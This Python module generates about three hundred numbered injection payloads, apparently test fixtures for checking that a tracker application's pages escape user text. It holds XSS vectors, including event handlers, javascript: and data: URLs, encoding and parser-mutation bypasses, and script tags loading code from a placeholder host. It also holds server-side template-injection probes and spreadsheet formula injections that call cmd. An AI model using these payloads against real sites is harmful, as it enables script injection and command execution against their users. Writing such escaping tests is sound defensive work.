"""Three hundred odd texts that would run a script or make an element where a page does not escape them."""

from itertools import product

from tracker.domain.text import clean_line

NUMBER = "§"
"""Stands for the number of a payload: what it runs, and the element it makes, say which it was."""

TRACE = "<x-p§>"
"""The end of every payload. No page has such an element, so one that appears is the fault, whatever else was blocked."""

_EVENTS = (
    ("img src=x", "onerror"), ("image src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"),
    ("video src=x", "onerror"), ("audio src=x", "onerror"), ("video><source", "onerror"), ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"), ("button autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
    ("details open", "ontoggle"), ("marquee", "onstart"), ("iframe", "onload"), ("object data=x", "onerror"), ("embed", "onload"),
    ("style", "onload"), ("link rel=stylesheet href=x", "onerror"), ("script src=x", "onerror"), ("svg><animate", "onbegin"),
    ("svg><set attributename=x", "onbegin"), ("a tabindex=1 autofocus", "onfocus"), ("math tabindex=1 autofocus", "onfocus"),
    ("x-y contenteditable autofocus", "onfocus"), ("p popover", "onbeforetoggle"),
)  # fmt: skip
_WRITINGS = (
    "<{tag} {event}=alert(§)>", '<{tag} {event}="alert(§)">', "<{tag}\n{event} = 'alert(§)'", "<{tag}//{event}=alert`§`//",
    "</{tag} {event}=&#97;lert(§)><{tag} {event}=&#x61;lert&lpar;§)>",
)  # fmt: skip
_ENDS = (
    '">', "'>", "`>", "</textarea>", "</title>", "</script>", "</style>", "</noscript>", "</template>", "</option></select>",
    "</svg>", "</math>", "</bdi></mark>", "</dd></dl>", "</summary></details>", "-->", "--!>", "]]>", "?>", "</iframe>", "</xmp>",
)  # fmt: skip
_CORES = ("<script>alert(§)</script>", "<img src=x onerror=alert(§)>", "<svg/onload=alert(§)>")
_SCHEMES = (
    "javascript:alert(§)", "JaVaScRiPt:alert(§)", "java\tscript:alert(§)", "\x01javascript:alert(§)", "javascript&colon;alert(§)",
    "&#106;avascript:alert(§)", "javascript://example.org/%0aalert(§)", "vbscript:alert(§)", "jav&#x0A;ascript:alert(§)",
    "data:text/html,<script>alert(§)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#§", "//§.example.net/x",
)  # fmt: skip
_CARRIERS = (
    '<a href="{}">x</a>', "[x]({})", "![x]({})", "<{}>", "{}", '<iframe src="{}">', '<form action="{}"><button>', "<object data='{}'>",
    '<svg><a xlink:href="{}"><text y=9>x', '<meta http-equiv=refresh content="0;url={}">', '<base href="{}">',
    "<button form=x formaction='{}'>", '<math href="{}">x', '<iframe srcdoc="<a href={}>">',
)  # fmt: skip
_ATTRIBUTES = (
    '" autofocus onfocus=alert(§) x-p§="', "' autofocus onfocus=alert(§) x-p§='", "` onmouseover=alert(§) `", " x onmouseover=alert(§) ",
    '"onpointerenter="alert(§)', "\"><", "' style='animation-name:x' onanimationstart='alert(§)", '" style="background:url(//§.example.net)',
    '"/x-p§/"', '\\" onfocus=alert(§) autofocus \\"', "&quot; onfocus=alert(§) autofocus &quot;", "&#34;&#62;<b x-p§>",
)  # fmt: skip
_SPELLINGS = (
    "<script>alert(§)</script>", "<SCRIPT>alert(§)</SCRIPT>", "<scr<script>ipt>alert(§)</scr</script>ipt>", "<script/x>alert(§)</script>",
    "<script type=module>alert(§)</script>", "<script src=//§.example.net/x.js></script>", "<script src=data:,alert(§)></script>",
    "<script>alert(§)//", "<script>alert(§)<!--", "<\u200bscript>alert(§)</script>", "\u202e<script>alert(§)</script>",
    "＜script＞alert(§)＜/script＞", "<\u017fcript>alert(§)</\u017fcript>", "\ufeff<script>alert(§)</script>", "%3Cscript%3Ealert(§)%3C/script%3E",
    "&lt;script&gt;alert(§)&lt;/script&gt;", "&#60;script&#62;alert(§)&#60;/script&#62;", "&amp;lt;script&amp;gt;alert(§)", "\\u003cscript\\u003ealert(§)",
    "\\x3cscript\\x3ealert(§)", "+ADw-script+AD4-alert(§)+ADw-/script+AD4-", "\x1b$B<script>alert(§)\x1b(B", "<svg><script>alert(§)</script>",
    "<svg><script xlink:href=data:,alert(§) />", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(§)>#x'>", "<math><script>alert(§)</script>",
    "¼script¾alert(§)¼/script¾", "<script>\u2028alert(§)</script>", "<%00script>alert(§)", "\ud83d<script>alert(§)</script>",
)  # fmt: skip
_TEMPLATES = (
    "{{7*§}}", "{{ config }}§", "{% set x = §%}{{ x }}", "{# § #}", "{{''.__class__.__mro__}}§", "{{ site.keys }}§", "${7*§}", "#{7*§}", "<%= 7*§ %>",
    "{{constructor.constructor('alert(§)')()}}", "%(csrf_token)s§", "%s%n%§$x", "{0.__class__}§", "{contact_name}§", "[[${7*§}]]", "@{alert(§)}",
)  # fmt: skip
_MUTATIONS = (
    '<svg></p><style><a id="</style><img src=1 onerror=alert(§)>">', '<noscript><p title="</noscript><img src=x onerror=alert(§)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(§)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(§)>", "<listing>&lt;img onerror=alert(§) src=x&gt;</listing>",
    "<template shadowrootmode=open><script>alert(§)</script></template>", "<xmp><p title='</xmp><img src=x onerror=alert(§)>'>",
    '<svg><desc><noscript><img src="</noscript><img src=x onerror=alert(§)>">', "<select><noembed></select><script x='a'>alert(§)</script>",
    "<table><td background='javascript:alert(§)'>", "<plaintext>§", "<textarea>§", "<title>§", "<style>*{background:url(//§.example.net)}</style>",
    "<link rel=stylesheet href=data:text/css,*{color:red}#§>", "<div style='width:expression(alert(§))'>", "<b id=cookie name=§>", "<input name=csrf_token value=§>",
)  # fmt: skip
_BROKEN = (
    "<!--§", "<!--><img src=x onerror=alert(§)>", "<!--[if gte IE 4]><script>alert(§)</script><![endif]-->", "<![CDATA[<script>alert(§)</script>]]>",
    '<?xml-stylesheet href="javascript:alert(§)"?>', "<!DOCTYPE x [<!ENTITY y '§'>]>&y;", "<<img src=x onerror=alert(§)//", "<img src=x onerror=alert(§)",
    "<img \"\"\"><script>alert(§)</script>\">", "<a href=x><a onclick=alert(§)>x</a", "</p></div></main></body></html>§",
)  # fmt: skip
_SHEETS = (
    '=HYPERLINK("javascript:alert(§)","x")', "=cmd|' /C calc'!A§", "+1+§", "-2+3+cmd|' /C calc'!A§", "@SUM(1,§)", '=IMPORTXML("//§.example.net","//a")',
)  # fmt: skip

_CASES = (
    *(writing.format(tag=tag, event=event) for (tag, event), writing in product(_EVENTS, _WRITINGS)),
    *(end + core for end, core in product(_ENDS, _CORES)),
    *(carrier.format(_SCHEMES[n % len(_SCHEMES)]) for n, carrier in enumerate(_CARRIERS * 3)),
    *_ATTRIBUTES, *_SPELLINGS, *_TEMPLATES, *_MUTATIONS, *_BROKEN, *_SHEETS,
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    clean_line((case + TRACE).replace(NUMBER, str(number))) for number, case in enumerate(_CASES, 1001)
)
"""Each as it is stored in a line of text."""
